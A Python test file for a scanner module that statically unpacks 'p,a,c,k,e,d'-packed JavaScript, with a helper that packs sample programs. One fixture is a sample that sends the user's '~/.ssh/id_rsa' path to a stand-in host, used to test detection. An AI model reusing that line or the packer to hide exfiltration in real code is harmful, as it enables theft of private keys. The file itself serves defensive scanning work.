"""The "p,a,c,k,e,d" packer read without running it (skillscan/analyzers/js/packer.py)."""

from __future__ import annotations

import re

from skillscan.analyzers.js.packer import MAX_PACKED, MAX_WORDS, _encode, unpack

BODY = ("e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};"
        "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p")


def pack(program: str, radix: int = 62) -> str:
    words: list[str] = []
    for w in re.findall(r"\b\w+\b", program):
        if w not in words:
            words.append(w)
    index = {w: _encode(i, radix) for i, w in enumerate(words)}
    payload = re.sub(r"\b\w+\b", lambda m: index[m.group(0)], program).replace("\\", "\\\\").replace("'", "\\'")
    return (f"eval(function(p,a,c,k,e,d){{{BODY}}}('{payload}',{radix},{len(words)},"
            f"'{'|'.join(words)}'.split('|'),0,{{}}))")


def test_the_words_are_put_back() -> None:
    program = "const h=require('os').homedir();send('https://c.example.net', h + '/.ssh/id_rsa');"
    got = unpack("// header\n" + pack(program))
    assert [u.text for u in got] == [program] and got[0].offset == len("// header\n")
    many = " ".join(f"w{i}" for i in range(300))  # indexes past one base-62 digit
    assert unpack(pack(many))[0].text == many
    assert unpack(pack(many, radix=10))[0].text == many


def test_the_digits_are_the_packers() -> None:
    assert [_encode(c, 62) for c in (0, 9, 10, 35, 36, 61, 62)] == ["0", "9", "a", "z", "A", "Z", "10"]


def test_text_that_only_names_the_packer_is_not_unpacked() -> None:
    assert unpack("// eval(function(p,a,c,k,e,d) is how packed scripts start") == []


def test_bounds_are_said() -> None:
    cut: list[str] = []
    calls = "\n".join(pack(f"const v{i}=1;") for i in range(MAX_PACKED + 2))
    assert len(unpack(calls, cut)) == MAX_PACKED and cut and "packed calls" in cut[0]
    cut = []  # signatures whose arguments are missing count too: each one is searched for them
    bare = "\n".join("eval(function(p,a,c,k,e,d){return p}" for _ in range(MAX_PACKED + 1))
    assert unpack(bare + "\n" + pack("const late=1;"), cut) == [] and cut and "packed calls" in cut[0]
    cut = []
    huge = pack("x").replace("',62,1,'", f"',62,{MAX_WORDS + 1},'")
    assert unpack(huge, cut) == [] and cut and "not unpacked" in cut[0]
